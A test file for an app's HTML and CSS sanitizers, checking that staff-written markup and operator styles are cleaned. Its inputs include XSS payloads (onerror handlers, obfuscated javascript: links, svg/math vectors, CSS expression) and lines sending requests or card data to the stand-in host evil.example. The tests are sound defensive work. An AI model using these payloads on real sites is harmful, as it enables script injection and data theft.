import { describe, expect, test } from 'vitest'
import { cleanCss, cssProblem, scopedCss } from './clean-css'
import { cleanHtml, plainWords } from './clean-html'

describe('[SCR-13] HTML written by staff', () => {
  test.each([
    ['<p>Free <b>kulfi</b> today</p>', '<p>Free <b>kulfi</b> today</p>'],
    ['<p onclick="x()">Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['<img src=x onerror=alert(1)>', ''],
    ['<img src="/media/a.webp" onload="x()" alt="Dal">', '<img src="/media/a.webp" alt="Dal" />'],
    ['<img src="//evil.example/x.png">', ''],
    ['<a href="javascript:alert(1)">tap</a>', '<a>tap</a>'],
    ['<a href=" JaVaScRiPt:alert(1)">tap</a>', '<a>tap</a>'],
    ['<a href="&#106;avascript:alert(1)">tap</a>', '<a>tap</a>'],
    ['<a href="/offers" target="_top">Offers</a>', '<a href="/offers" rel="noreferrer">Offers</a>'],
    ['<iframe src="https://evil.example">x</iframe>Hi', 'Hi'],
    ['<svg><script>alert(1)</script></svg>', ''],
    ['<style>*{display:none}</style><p style="position:fixed">Hi</p>', '<p>Hi</p>'],
    ['<form action="https://evil.example"><input name="card"></form>', ''],
    ['<center>Old <font color=red>words</font></center>', 'Old words'],
    ['<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>', ''],
    ['Fish & chips < 200', 'Fish &amp; chips &lt; 200'],
  ])('%s is stored as %s', (given, stored) => {
    expect(cleanHtml(given)).toBe(stored)
    expect(cleanHtml(stored)).toBe(stored)
  })

  test.each([
    ['Crisp, with chutney', 'Crisp, with chutney'],
    ['Fish & chips < 200 g', 'Fish & chips < 200 g'],
    ['<p>Crisp</p><p>Fish &amp; chips</p>', 'Crisp Fish & chips'],
    ['Soft<br>and hot<script>alert(1)</script>', 'Soft and hot'],
  ])('a description %s is stored as the words %s', (given, words) => expect(plainWords(given)).toBe(words))
})

describe('[ENT-01] the operator’s own styles', () => {
  test('reach nothing outside the app, whatever their selectors name', () => {
    expect(scopedCss('.card, :root, html .x, body > main { color: red }')).toBe(
      'body .card, body, body .x, body > main { color: red }',
    )
    expect(scopedCss('@media (width > 600px) { .a { color: red } }')).toContain('body .a')
    expect(scopedCss('@keyframes turn { from { rotate: 0deg } to { rotate: 9deg } }')).not.toContain('body')
  })

  test.each([
    '@import url("https://evil.example/x.css");',
    '@font-face { font-family: x; src: url(https://evil.example/x) }',
    '.a { background: url(https://evil.example/spy.gif) }',
    '.a { background: url( "//evil.example/spy.gif" ) }',
    '.a { background: u\\72l(https://evil.example/spy.gif) }',
    '.a { background: image-set("https://evil.example/spy.gif" 1x) }',
    '.a { width: expression(alert(1)) }',
    '.a { behavior: url(/x.htc); -moz-binding: url(/x) }',
    '.a { background: url(javascript:alert(1)) }',
  ])('%s fetches and runs nothing', (css) => {
    expect(cleanCss(css)).not.toMatch(/evil|expression|alert|htc|binding/)
  })

  test('may use this server’s own pictures', () => {
    expect(cleanCss('.a { background: url("/media/a.webp") }')).toContain('/media/a.webp')
  })

  test('can never close the style element that contains them', () => {
    const css = '.a::before { content: "</style><script>alert(1)</script>" } .b::after { content: "<b>" }'
    expect(scopedCss(css)).not.toContain('<')
  })

  test('that cannot be parsed are refused with their line', () => {
    expect(cssProblem('.a { color: red')).toMatch(/line 1/)
    expect(cssProblem('.a { color: red }')).toBeNull()
    expect(scopedCss('.a { color: red')).toBe('')
  })

  test('cleaned twice are the same', () => {
    const once = cleanCss('@import "x"; .a { color: red } @media print { .b { color: blue } }')
    expect(cleanCss(once)).toBe(once)
  })
})
